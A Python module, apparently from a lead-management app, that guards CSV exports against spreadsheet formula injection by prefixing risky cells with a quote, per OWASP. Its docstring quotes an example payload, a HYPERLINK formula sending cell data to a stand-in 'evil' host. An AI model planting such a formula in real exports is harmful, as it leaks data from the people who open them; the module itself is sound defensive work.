"""Every CSV or spreadsheet the app writes goes through here: formulas are neutralised.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1, "Click")``);
anyone who can put text in a lead (the public capture form) could plant one in an export a manager
opens. OWASP's remedy: prefix such text with ``'`` so the spreadsheet shows it as text. Numbers
are left alone (``-12`` as a number is data, not a formula). Issue 16's XLSX export must write its
cells through :func:`neutralise` as well.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell value to write: text that a spreadsheet would evaluate gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell (same ``writerow``/``writerows``)."""

    def __init__(self, stream, **options):
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options) -> SafeWriter:
    """The CSV writer for every export of the app."""
    return SafeWriter(stream, **options)
